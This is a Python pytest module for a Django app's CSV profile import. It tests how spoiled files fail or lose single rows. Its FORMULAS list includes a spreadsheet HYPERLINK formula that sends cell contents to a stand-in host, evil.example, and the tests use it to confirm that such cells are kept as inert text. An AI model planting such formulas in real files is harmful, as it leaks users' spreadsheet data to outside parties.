"""The bad-file corpus, for every kind of profile import (people, reviews, learning, aspirations,
evidence): the same file of three good rows, spoiled one way at a time.

Each spoiled file either fails whole, saying why, with nothing changed (a header that does not fit,
a file in UTF-16 or Latin-1), or loses only its bad row, named by line and column, while the good
rows land (a date in another format, a number with a thousands separator); a byte-order mark and a
row repeated are fine; cells starting with ``=``, ``+``, ``-`` or ``@`` are stored as the text they
are (every file the project writes neutralises them: ``core/tests/test_spreadsheets.py``).
The zip bomb, the row and memory limits and the broken quotes are in ``test_import_hostile.py``.
"""

import csv
from dataclasses import dataclass

import pytest

from profiles.importing import file_import
from profiles.models import CareerAspiration, Employee, LearningRecord, PerformanceReview, SkillEvidence, SyncRejection
from profiles.tests.factories import EmployeeFactory
from taxonomy.tests.factories import RoleFactory, SkillFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@dataclass(frozen=True)
class Case:
    kind: str
    rows: list[dict]  # three good rows, in file order
    date: str  # a date column
    text: str  # a free-text column
    number: str | None  # a numeric column, if the kind has one
    stored_texts: object  # () -> the values of ``text`` in the database

    @property
    def header(self) -> list[str]:
        return list(self.rows[0])


def texts(model, field, **among):
    return lambda: sorted(model.objects.filter(**among).values_list(field, flat=True))


CASES = [
    Case(
        "people",
        [
            {"external_id": f"P{n}", "first_name": "Ada", "last_name": f"Byron {n}", "hire_date": "2025-01-06"}
            for n in range(1, 4)
        ],
        date="hire_date",
        text="last_name",
        number=None,
        stored_texts=texts(Employee, "last_name", external_id__startswith="P"),
    ),
    Case(
        "reviews",
        [
            {"employee": f"E{n}", "period": "2025", "score": "4", "submitted_at": "2026-01-15", "commentary": "Good"}
            for n in range(1, 4)
        ],
        date="submitted_at",
        text="commentary",
        number="score",
        stored_texts=texts(PerformanceReview, "commentary"),
    ),
    Case(
        "learning",
        [
            {
                "employee": "E1",
                "activity_id": f"https://lms.example/c{n}",
                "title": "SQL basics",
                "status": "completed",
                "completed_at": "2026-01-15",
                "minutes": "90",
            }
            for n in range(1, 4)
        ],
        date="completed_at",
        text="title",
        number="minutes",
        stored_texts=texts(LearningRecord, "title"),
    ),
    Case(
        "aspirations",
        [{"employee": f"E{n}", "interests": "data", "stated_at": "2026-01-15"} for n in range(1, 4)],
        date="stated_at",
        text="interests",
        number=None,
        stored_texts=texts(CareerAspiration, "interests"),
    ),
    Case(
        "evidence",
        [
            {
                "employee": f"E{n}",
                "skill": "SQL",
                "level": "3",
                "source": "manager",
                "observed_at": "2026-01-15",
                "note": "Seen",
            }
            for n in range(1, 4)
        ],
        date="observed_at",
        text="note",
        number="level",
        stored_texts=texts(SkillEvidence, "note"),
    ),
]
WITH_NUMBERS = [case for case in CASES if case.number]


def ids(case):
    return case.kind


@pytest.fixture(autouse=True)
def organisation(db):
    """The employees, the skill and the role the good rows name."""
    for n in range(1, 4):
        EmployeeFactory(external_id=f"E{n}", email=f"e{n}@example.com")
    SkillFactory(name="SQL")
    RoleFactory(title="Analyst")


def write(tmp_path, case, rows=None, *, header=None, encoding="utf-8"):
    path = tmp_path / f"{case.kind}.csv"
    with path.open("w", newline="", encoding=encoding) as handle:
        out = csv.writer(handle)
        out.writerow(header or case.header)
        out.writerows([row[column] for column in case.header] for row in (rows or case.rows))
    return path


def landed(case) -> int:
    return len(case.stored_texts())


def refused(run) -> list[tuple[int, str]]:
    return list(SyncRejection.objects.filter(run=run).order_by("line").values_list("line", "reason"))


def spoiled(case, line, column, value) -> list[dict]:
    """The good rows with ``column`` of the row on ``line`` (the header is line 1) set to ``value``."""
    rows = [dict(row) for row in case.rows]
    rows[line - 2][column] = value
    return rows


@pytest.mark.parametrize("case", CASES, ids=ids)
def test_the_good_file_lands_whole_with_or_without_a_byte_order_mark(tmp_path, case):
    run = file_import(path=write(tmp_path, case, encoding="utf-8-sig"), kind=case.kind)
    assert (run.status, run.received, run.rejected) == ("succeeded", 3, 0), (run.error, refused(run))
    assert landed(case) == 3


@pytest.mark.parametrize("case", CASES, ids=ids)
def test_a_header_with_a_wrong_name_fails_whole_naming_the_missing_column(tmp_path, case):
    required = case.header[1]  # first_name, period, activity_id, interests' neighbour ...
    header = [f"{name}x" if name == required else name for name in case.header]
    run = file_import(path=write(tmp_path, case, header=header), kind=case.kind)
    assert run.status == "failed" and run.error.startswith("Nothing was imported")
    assert f"unknown column {required}x" in run.error or f"missing column {required}" in run.error, run.error
    assert landed(case) == 0


@pytest.mark.parametrize("case", CASES, ids=ids)
@pytest.mark.parametrize(
    ("encoding", "message"),
    [("utf-16", "The file is UTF-16 text"), ("latin-1", "not UTF-8 text")],
    ids=["utf16", "latin1"],
)
def test_a_file_in_another_encoding_fails_whole_and_says_which(tmp_path, case, encoding, message):
    rows = spoiled(case, 2, case.text, "Café")  # a letter Latin-1 writes as one byte UTF-8 cannot read
    run = file_import(path=write(tmp_path, case, rows, encoding=encoding), kind=case.kind)
    assert run.status == "failed" and message in run.error and run.error.startswith("Nothing was imported")
    assert landed(case) == 0


@pytest.mark.parametrize("case", CASES, ids=ids)
@pytest.mark.parametrize("value", ["15/01/2026", "01/15/2026", "15.01.2026", "Jan 15, 2026"])
def test_a_date_in_another_format_loses_its_row_only_named_by_line_and_column(tmp_path, case, value):
    run = file_import(path=write(tmp_path, case, spoiled(case, 3, case.date, value)), kind=case.kind)
    assert run.status == "partial" and run.received == 3 and landed(case) == 2
    [(line, reason)] = refused(run)
    assert line == 3 and reason.startswith(f"{case.date} is not a date") and value in reason, reason


@pytest.mark.parametrize("case", WITH_NUMBERS, ids=ids)
@pytest.mark.parametrize("value", ["1,200", "1 200", "1\u00a0200", "4,0"])
def test_a_number_with_a_thousands_separator_loses_its_row_only_named_by_line_and_column(tmp_path, case, value):
    run = file_import(path=write(tmp_path, case, spoiled(case, 4, case.number, value)), kind=case.kind)
    assert run.status == "partial" and landed(case) == 2
    [(line, reason)] = refused(run)
    assert line == 4 and reason.startswith(f"{case.number} is not a number: “{value}”"), reason
    assert "no thousands separators" in reason


@pytest.mark.parametrize("case", CASES, ids=ids)
def test_a_row_given_twice_lands_once_and_the_repeat_says_which_line_it_repeats(tmp_path, case):
    run = file_import(path=write(tmp_path, case, [*case.rows, case.rows[0]]), kind=case.kind)
    assert run.received == 4 and landed(case) == 3
    [(line, note)] = refused(run)
    assert line == 5 and "line 2" in note, note


@pytest.mark.parametrize("case", CASES, ids=ids)
def test_cells_that_look_like_formulas_are_kept_as_the_text_they_are(tmp_path, case):
    rows = [dict(row, **{case.text: formula}) for row, formula in zip(case.rows, FORMULAS, strict=False)]
    run = file_import(path=write(tmp_path, case, rows), kind=case.kind)
    assert (run.status, run.rejected) == ("succeeded", 0), refused(run)
    assert case.stored_texts() == sorted(FORMULAS[:3])
